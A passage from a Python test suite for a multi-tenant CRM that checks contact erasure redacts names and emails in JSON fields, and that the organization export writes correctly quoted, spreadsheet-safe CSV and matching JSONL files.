    response = client.post(f"/api/v1/contacts/{person.pk}/erase/", headers=headers)
    assert response.status_code == 200
    with tenant_context(org):
        account.refresh_from_db()
        assert account.custom_attributes == {"a": 1, "b": 2}
        assert not Contact.objects.filter(pk=person.pk).exists()


def test_it_redacts_the_person_in_every_string_of_some_json_keys_included(org):
    with tenant_context(org):
        account = AccountFactory(
            custom_attributes={
                "champion": NAME,
                EMAIL: {"notes": [f"call {NAME.replace(' ', '  ')}", "nothing here"]},
                "seats": 3,
            }
        )
        person = ContactFactory(account=account, email=EMAIL, name=NAME)
        privacy.contact_erase(person, actor=None)
        account.refresh_from_db()
    assert account.custom_attributes == {
        "champion": "[erased]",
        "[erased]": {"notes": ["call [erased]", "nothing here"]},
        "seats": 3,
    }


# --- review of issue 17: the export streams COPY's bytes, cells made safe in SQL --------

TRICKY_TEXTS = ['a "quoted"\nline', "back\\slash \\N", "", "\t=1", " -1", "ção 😀", "\\."]


def _export_with_tricky_cells(tmp_path):
    mine, _theirs = _two_organizations_with_data()
    with tenant_context(mine):
        for index, text in enumerate(TRICKY_TEXTS):
            AccountFactory(name=text or "empty segment", segment=text, custom_attributes=-index - 1)
        NoteFactory(body='{"json": "in \\"a\\" note"}\r\n=1')
    output = tmp_path / "mine.zip"
    call_command("export_organization", "--org", mine.slug, "--output", str(output))
    return mine, zipfile.ZipFile(output)


def test_it_quotes_every_value_so_an_empty_field_is_null_with_a_plain_header(tmp_path):
    _mine, archive = _export_with_tricky_cells(tmp_path)
    lines = archive.read("accounts/account.csv").decode().split("\n")
    excluded = privacy.EXPORT_EXCLUDED_COLUMNS[Account]  # derived for search, not exported
    columns = [f.attname for f in Account._meta.concrete_fields if f.attname not in excluded]
    assert lines[0] == ",".join(columns)  # the header: the column names
    assert lines[-1] == ""  # every line ends with a newline
    rows = list(csv.reader(io.StringIO(archive.read("accounts/account.csv").decode()), **NOTNULL))
    assert rows[0] == columns
    assert {row[columns.index("segment")] for row in rows[1:]} >= {
        'a "quoted"\nline',
        "back\\slash \\N",
        "",  # quoted: an empty text, not NULL
        "'\t=1",
        " -1",
        "ção 😀",
        "\\.",
    }
    assert {row[columns.index("owner_id")] for row in rows[1:]} == {None}  # NULL: empty
    text = archive.read("accounts/account.csv").decode()
    first = rows[1]  # every value quoted, numbers and days too
    assert text.split("\n")[1].startswith(f'"{first[0]}","{first[1]}","')
    assert ',,"' in text  # the NULL owner: an empty field, unquoted


NOTNULL = {"quoting": csv.QUOTE_NOTNULL}


def _python_rule_rows(sql, params, text):
    """The export's rows as the cell-by-cell Python rule writes them (schema 3's first
    implementation): COPY's values, every text one through spreadsheet_cell."""
    from csplatform.spreadsheet import spreadsheet_cell

    with (
        connection.cursor() as cursor,
        cursor.cursor.copy(f"COPY ({sql}) TO STDOUT", params) as copy,
    ):
        return [
            [
                spreadsheet_cell(value) if is_text and value is not None else value
                for value, is_text in zip(row, text, strict=True)
            ]
            for row in copy.rows()
        ]


def test_it_exports_every_cell_of_every_table_as_the_python_rule_would(tmp_path):
    # Inside a transaction (as the web download): read committed, through a temporary table.
    _assert_every_cell_as_the_python_rule_would(tmp_path)


@pytest.mark.django_db(transaction=True)
def test_it_exports_every_cell_the_same_from_the_commands_snapshot(tmp_path):
    # The command on its own: one repeatable-read snapshot, straight from the tables.
    _assert_every_cell_as_the_python_rule_would(tmp_path)


def _assert_every_cell_as_the_python_rule_would(tmp_path):
    mine, archive = _export_with_tricky_cells(tmp_path)
    manifest = json.loads(archive.read("manifest.json"))
    with tenant_context(mine):
        for name, model, columns in privacy.export_tables():
            sql, params = model.objects.order_by("pk").values_list(*columns).query.sql_with_params()
            fields = {f.attname: f for f in model._meta.concrete_fields}
            expected = _python_rule_rows(
                sql, params, [privacy._is_text(fields[c]) for c in columns]
            )
            rows = list(csv.reader(io.StringIO(archive.read(name).decode()), **NOTNULL))
            assert rows == [columns, *expected], name
            with connection.cursor() as cursor:
                cursor.execute(f"SELECT to_json(t)::text FROM ({sql}) AS t", params)  # noqa: S608
                as_json = [f"{line}\n" for (line,) in cursor.fetchall()]
            assert archive.read(privacy.jsonl_name(name)).decode() == "".join(as_json), name
            assert manifest["files"][name] == manifest["files"][privacy.jsonl_name(name)]
            assert manifest["files"][name] == len(expected)
    accounts = [json.loads(line) for line in archive.read("accounts/account.jsonl").splitlines()]
    assert {a["segment"] for a in accounts} >= set(TRICKY_TEXTS)
    assert [a["custom_attributes"] for a in accounts][-8:-1] == [-1, -2, -3, -4, -5, -6, -7]
    notes = [json.loads(line)["body"] for line in archive.read("accounts/note.jsonl").splitlines()]
    assert '{"json": "in \\"a\\" note"}\r\n=1' in notes
